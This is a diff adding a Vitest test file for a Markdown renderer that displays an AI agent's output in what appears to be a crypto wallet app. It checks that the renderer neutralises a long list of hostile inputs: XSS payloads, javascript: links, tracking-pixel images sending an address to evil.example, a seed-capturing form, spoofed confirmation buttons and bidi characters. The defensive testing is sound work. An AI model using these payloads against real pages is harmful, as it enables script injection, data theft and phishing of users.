@@ -1,0 +1,113 @@
+// @vitest-environment happy-dom
+import { cleanup, fireEvent, render } from '@testing-library/react'
+import { afterEach, describe, expect, it, vi } from 'vitest'
+import { OpenLinkContext } from './agent-link'
+import { Markdown } from './markdown'
+
+afterEach(cleanup)
+
+const hostile = [
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<svg onload=alert(1)>',
+  '<a href="https://evil.example">click</a>',
+  '<style>body{display:none}</style>',
+  '<button data-state="ready">Countersign</button>',
+  '<article data-tool="send_native_gas_token" data-state="confirmed">Confirmed</article>',
+  '<form action="https://evil.example"><input name=seed></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example">',
+  '<video src="https://evil.example/v.mp4" autoplay></video>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<!-- --><img src=x>',
+  '![balance](https://evil.example/pixel.png)',
+  '![](https://evil.example/pixel.png?address=0x1)',
+  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  '![x][ref]\n\n[ref]: https://evil.example/pixel.png',
+  '[![x](https://evil.example/p.png)](https://evil.example)',
+  '[click](javascript:alert(1))',
+  '[click](JaVaScRiPt:alert(1))',
+  '[click](java&#x0A;script:alert(1))',
+  '[click](data:text/html,<script>alert(1)</script>)',
+  '[click](vbscript:msgbox(1))',
+  '[click](file:///etc/passwd)',
+  '[click](//evil.example)',
+  '[click](/api/auth/sign-out)',
+  '[click](ethereum:0x0000000000000000000000000000000000000001?value=1)',
+  '[https://app.example](https://evil.example)',
+  '<https://evil.example/auto>',
+  'https://evil.example/bare and www.evil.example too',
+  '[ref link][r]\n\n[r]: https://evil.example "title"',
+  '<javascript:alert(1)>',
+  'seed@evil.example',
+  'text[^1]\n\n[^1]: note https://evil.example ![x](https://evil.example/p.png)',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> ![x](https://evil.example/p.png) |',
+  '- [x] <input type=checkbox onclick=alert(1)> [go](https://evil.example)',
+  '```html\n<img src=x onerror=alert(1)>\n```',
+  '# <img src=x onerror=alert(1)> [x](javascript:alert(1))',
+]
+
+describe('Markdown of an agent', () => {
+  it.each(hostile)('draws %j without anything that loads, runs or navigates', (text) => {
+    const { container } = render(<Markdown text={text} />)
+    const active = 'img,script,iframe,svg,style,form,input,meta,base,object,embed,video,link,details,math,article,a'
+    expect(container.querySelectorAll(active)).toHaveLength(0)
+    for (const element of container.querySelectorAll('*')) {
+      const names = element.getAttributeNames()
+      expect(names.filter((name) => /^(on|href|src|action|style|id|data-)/.test(name))).toEqual([])
+    }
+  })
+
+  it('shows raw HTML as the text that it is', () => {
+    const { container } = render(<Markdown text={'before <b onclick="x()">bold</b> after'} />)
+    expect(container.textContent).toContain('<b onclick="x()">')
+  })
+
+  it('names an image in place of loading it', () => {
+    const { container } = render(<Markdown text="![your balance](https://evil.example/p.png)" />)
+    expect(container.textContent).toBe('[image: your balance]')
+  })
+
+  it('asks before it opens a link, and shows where the link really goes', () => {
+    const openLink = vi.fn()
+    const { getByRole } = render(
+      <OpenLinkContext value={openLink}>
+        <Markdown text="[https://app.example](https://evil.example/path)" />
+      </OpenLinkContext>,
+    )
+    const link = getByRole('button')
+    expect(link.textContent).toContain('evil.example')
+    fireEvent.click(link)
+    expect(openLink.mock.calls[0]?.[0].href).toBe('https://evil.example/path')
+  })
+
+  it.each(['javascript:alert(1)', '/api/auth/sign-out', '//evil.example', 'mailto:a@b.example', 'https://'])(
+    'makes plain text of a link to %s',
+    (href) => {
+      const { queryByRole } = render(<Markdown text={`[words](${href})`} />)
+      expect(queryByRole('button')).toBeNull()
+    },
+  )
+
+  it('writes out characters that hide or turn text round', () => {
+    const { container } = render(<Markdown text={'pay \u202E0x1234 now\u200B'} />)
+    expect(container.textContent).toBe('pay ␣U+202E0x1234 now␣U+200B')
+  })
+
+  it('draws what a good answer needs', () => {
+    const { container } = render(
+      <Markdown text={'# Title\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`\n\n3. third'} />,
+    )
+    expect(container.querySelectorAll('li')).toHaveLength(3)
+    expect(container.querySelector('strong')?.textContent).toBe('two')
+    expect(container.querySelectorAll('td')).toHaveLength(2)
+    expect(container.querySelector('code')?.textContent).toBe('code')
+    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3')
+    expect(container.querySelector('h1')).toBeNull()
+  })
+})
